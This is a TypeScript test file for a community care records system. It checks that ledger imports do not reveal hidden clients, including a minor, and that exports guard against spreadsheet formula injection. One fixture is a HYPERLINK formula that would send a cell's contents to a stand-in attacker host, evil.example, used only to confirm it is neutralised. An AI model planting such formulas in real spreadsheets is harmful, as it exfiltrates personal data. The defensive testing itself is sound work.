import ExcelJS from 'exceljs';
import { XLSX_MIME } from '@linli/contracts';
import { and, eq } from 'drizzle-orm';
import { beforeEach, describe, expect, it } from 'vitest';
import { auditLog } from '../src/platform/audit.tables';
import { clients } from '../src/modules/care/clients/clients.tables';
import { LEDGER_HEADINGS, readLedger, writeLedger } from '../src/modules/care/ledger/ledger-format';
import { HELD_BACK_REASON } from '../src/modules/care/ledger/ledger.service';
import { buildOrg, createUser, type TestOrg } from './factories/org';
import { createClient, ledgerFile, makeIdNumber } from './factories/care';
import { signedIn, useTestApp, type TestClient } from './harness';

const t = useTestApp({ loginLimitPerIp: 10_000, loginLimitPerUser: 10_000 });
// Each test: a district of its own.
let org: TestOrg;
beforeEach(async () => {
  org = await buildOrg(t.app.ctx);
});

async function login(roles: Parameters<typeof createUser>[1]['roles'], areas: string[]): Promise<TestClient> {
  return (await signedIn(t, roles, areas)).client;
}

/** The details of an actor's audit rows of one action, oldest first. */
async function auditDetails(actorId: string, action: string): Promise<string[]> {
  await t.app.ctx.auditWriter.flush();
  const rows = await t.app.ctx.db
    .select()
    .from(auditLog)
    .where(and(eq(auditLog.actorId, actorId), eq(auditLog.action, action)))
    .orderBy(auditLog.seq);
  return rows.map((r) => r.detail ?? '');
}

describe('ledger import is no oracle for clients the importer may not see (F5)', () => {
  it('holds back rows matching a client in another community or a minor hidden from the importer, saying only “ask your supervisor”', async () => {
    const { client: importer, id: importerId } = await signedIn(t, ['community_worker'], [org.communityA]);
    const colleague = await login(['community_worker'], [org.communityA]);
    const workerB = await login(['community_worker'], [org.communityB]);
    const idElsewhere = makeIdNumber('1944-04-04');
    const elsewhere = await createClient(workerB, org.communityB, { name: '乙区老人', idNumber: idElsewhere });
    // A minor assigned to a colleague: hidden from the importer (security.md decision 6).
    const idMinor = makeIdNumber('2016-05-05', 'female');
    const minor = await createClient(colleague, org.communityA, {
      name: '林小雨',
      idNumber: idMinor,
      categories: ['child_in_difficulty'],
    });
    expect((await importer.get(`/api/care/clients/${minor.id}`)).statusCode).toBe(404);
    const idMine = makeIdNumber('1946-06-06');
    await createClient(importer, org.communityA, { name: '本区老人', idNumber: idMine });

    const file = await ledgerFile([
      ['姓名', '性别', '身份证号', '出生日期', '所属社区', '服务对象类别'],
      ['乙区老人', '', idElsewhere, '', '一号社区', '低保'], // row 2: ID number of a client in community B
      ['林小雨', '', idMinor, '', '一号社区', '困境儿童'], // row 3: ID number of the hidden minor
      ['本区老人', '', idMine, '', '一号社区', '低保'], // row 4: the importer's own client
      ['新来老人', '', makeIdNumber('1947-07-07'), '', '一号社区', '低保'], // row 5: new
      ['林小雨', '女', '', '2016-05-05', '一号社区', '困境儿童'], // row 6: the hidden minor by name + birth date
    ]);
    const dry = await importer.upload('/api/care/ledger/import?dryRun=true', file, XLSX_MIME);
    expect(dry.statusCode, dry.body).toBe(200);
    const report = dry.json();
    expect(report).toMatchObject({ total: 5, valid: 2, skippedExisting: 1, created: 0, written: false });
    expect(report.rejected).toEqual(
      [2, 3, 6].map((row) => ({ row, reasons: [expect.objectContaining(HELD_BACK_REASON)] })),
    );
    for (const secret of [org.communityB, '二号社区', elsewhere.id, minor.id]) expect(dry.body).not.toContain(secret);
    expect(await auditDetails(importerId, 'client.import_check')).toEqual([expect.stringContaining('3 held back')]);

    const real = (await importer.upload('/api/care/ledger/import', file, XLSX_MIME)).json();
    expect(real).toMatchObject({ created: 1, skippedExisting: 1, written: true });
    expect(real.rejected.map((r: { row: number }) => r.row)).toEqual([2, 3, 6]);
    expect(await auditDetails(importerId, 'client.import')).toEqual([expect.stringContaining('3 held back')]);
    const bidx = (id: string) => t.app.ctx.cipher.blindIndex(id);
    expect(
      await t.app.ctx.db
        .select({ id: clients.id })
        .from(clients)
        .where(eq(clients.idNumberBidx, bidx(idElsewhere))),
    ).toHaveLength(1);
    expect(
      await t.app.ctx.db
        .select({ id: clients.id })
        .from(clients)
        .where(eq(clients.idNumberBidx, bidx(idMinor))),
    ).toHaveLength(1);

    // A supervisor of both communities sees everyone, so for them every row (the new one is in now) is simply “already there”.
    const supervisor = await login(['community_supervisor'], [org.communityA, org.communityB]);
    expect((await supervisor.upload('/api/care/ledger/import?dryRun=true', file, XLSX_MIME)).json()).toMatchObject({
      skippedExisting: 5,
      rejected: [],
    });
  });
});

describe('exports neutralise spreadsheet formulas (F13)', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A3,"点我领补贴")';

  async function cellsOf(payload: Buffer): Promise<Map<string, ExcelJS.Cell>> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(payload as unknown as ArrayBuffer);
    const cells = new Map<string, ExcelJS.Cell>();
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.set(String(cell.value), cell)));
    return cells;
  }

  it('writes text starting with = + - @ behind an apostrophe, as a string cell, masked and unmasked', async () => {
    const worker = await login(['community_worker'], [org.communityC]);
    const supervisor = await login(['community_supervisor'], [org.communityC]);
    await createClient(worker, org.communityC, {
      name: '公式老人',
      idNumber: makeIdNumber('1949-09-09'),
      address: HYPERLINK,
      emergencyContactName: '@某人',
    });

    const masked = await cellsOf(
      (await worker.get(`/api/care/ledger/export?communityCode=${org.communityC}`)).rawPayload,
    );
    const maskedAddress = [...masked.keys()].find((v) => v.includes('=HYP'));
    expect(maskedAddress).toMatch(/^'=HYP/);
    expect(masked.get(maskedAddress!)!.type).toBe(ExcelJS.ValueType.String);
    expect([...masked.keys()].some((v) => /^[=+\-@]/.test(v))).toBe(false);

    const request = (
      await worker.post('/api/care/exports', {
        filter: { communityCode: org.communityC },
        reason: '核对台账中的异常地址',
      })
    ).json();
    expect((await supervisor.post(`/api/care/exports/${request.id}/decision`, { approve: true })).json().status).toBe(
      'approved',
    );
    const download = await worker.get(`/api/care/exports/${request.id}/download`);
    expect(download.statusCode).toBe(200);
    const unmasked = await cellsOf(download.rawPayload);
    expect(unmasked.get(`'${HYPERLINK}`)?.type).toBe(ExcelJS.ValueType.String);
    expect(unmasked.has("'@某人")).toBe(true);
    expect([...unmasked.keys()].some((v) => /^[=+\-@]/.test(v))).toBe(false);
    // Read back, the guard is gone: one apostrophe off, nothing else changed.
    const back = (await readLedger(download.rawPayload)).rows.find((r) => r.cells.姓名 === '公式老人')!;
    expect(back.cells).toMatchObject({ 家庭住址: HYPERLINK, 紧急联系人: '@某人' });
  });

  it('imports a guarded cell without storing the guard', async () => {
    const worker = await login(['community_worker'], [org.communityC]);
    const cells = Object.fromEntries(LEDGER_HEADINGS.map((h) => [h, ''])) as Record<
      (typeof LEDGER_HEADINGS)[number],
      string
    >;
    Object.assign(cells, {
      姓名: '导入公式',
      身份证号: makeIdNumber('1951-01-01'),
      所属社区: '三号社区',
      服务对象类别: '低保',
      家庭住址: '-3 号楼 (地下)',
      备注: "'不是公式",
    });
    const res = await worker.upload(
      '/api/care/ledger/import',
      await writeLedger([{ cells }], '台账', 'test'),
      XLSX_MIME,
    );
    expect(res.json()).toMatchObject({ created: 1, rejected: [] });
    const [stored] = await t.app.ctx.db
      .select({ address: clients.address, notes: clients.notes })
      .from(clients)
      .where(eq(clients.name, '导入公式'));
    expect(stored).toEqual({ address: '-3 号楼 (地下)', notes: "'不是公式" });
  });
});
